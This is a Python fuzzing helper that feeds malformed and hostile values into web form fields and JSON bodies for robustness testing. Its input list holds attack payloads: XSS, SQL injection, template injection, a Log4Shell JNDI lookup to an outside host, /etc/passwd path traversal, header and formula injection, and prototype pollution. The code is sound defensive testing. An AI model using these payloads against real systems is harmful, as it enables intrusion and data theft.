"""Values that no field expects."""

import random

HOSTILE = (
    "\x00", "a\x00b", "", " ", "\u3000", "a" * 10_000, "９" * 30, "9" * 400, "-1", "+5", "1_000", "٥", "1e309", "NaN",
    "Infinity", "0x10", "2147483648", "9223372036854775808", "-9223372036854775809", "1" * 19, "0",
    "0001-01-01", "9999-12-31",
    "2026-02-30", "２０２６-01-01", "10000-01-01", "0000-00-00", "<script>alert(1)</script>", "'\"--;", "' OR 1=1 --",
    "{{ 7*7 }}", "%s%s%n", "%00", "${jndi:ldap://a.cn}", "\u202egnp", "\u200b", "\u00ad", "😀",
    "\ufffe", "\uffff", "𬭎",
    "../../etc/passwd", "/", "//", "\\", "[", "]", "#", "?", "&", "=1+1", "@SUM(A1)",
    "\r\nX-Injected: y", "null", "true",
    "undefined", "None", "[]", "{}", "~", "~ffffffff", "00000000-0000-0000-0000-000000000000",
    "not-a-uuid", "1,2,3", "1-1",
    "yes", "on", "zh", "M05a", "M99z", "520201", "13800000001", "52020119800101001X", "é" * 300,
    "\u0301" * 50, "\ue000",
)  # fmt: skip
HOSTILE_JSON = (
    *HOSTILE, None, True, False, 0, -1, 1, 1.5, 10**18 - 1, -(10**17), [], {}, [[]], [{}], {"a": 1}, [None], ["a", 1],
    "\ud800", {"\x00": 1}, {"yes": ["veteran"], "no": ["veteran"]}, {"yes": None}, [1] * 200,
)  # fmt: skip
NAMES = (
    "q",
    "next",
    "page",
    "p",
    "o",
    "all",
    "id",
    "__proto__",
    "csrfmiddlewaretoken",
    "\x00",
    "a[]",
    "pk__in",
)


def hostile(chance: random.Random):
    return chance.choice(HOSTILE)


def spoiled_form(form: dict[str, list], chance: random.Random) -> dict[str, list]:
    """A form with one to three things wrong: a value, one too many, one too few, a stranger."""
    form = {name: list(values) for name, values in form.items()}
    for _ in range(chance.randint(1, 3)):
        name = chance.choice([*form, chance.choice(NAMES)])
        match chance.randrange(6):
            case 0:
                form.pop(name, None)
            case 1:
                form[name] = [*form.get(name, []), hostile(chance)]
            case 2:
                form[f"{name}{chance.choice(('-0', '__in', '[]', chr(0)))}"] = [hostile(chance)]
            case _:
                form[name] = [hostile(chance)]
    return form


def spoiled_json(value, chance: random.Random):
    """A body with one part of it, however deep, put in the place of another."""
    if isinstance(value, dict) and value and chance.random() < 0.8:
        name = chance.choice(list(value))
        match chance.randrange(6):
            case 0:
                return {key: inner for key, inner in value.items() if key != name}
            case 1:
                return {**value, chance.choice(("stranger", "", "a.b", "é")): chance.choice(HOSTILE_JSON)}
            case _:
                return {**value, name: spoiled_json(value[name], chance)}
    if isinstance(value, list) and value and chance.random() < 0.8:
        place = chance.randrange(len(value))
        return [*value[:place], spoiled_json(value[place], chance), *value[place + 1 :]]
    return chance.choice(HOSTILE_JSON)
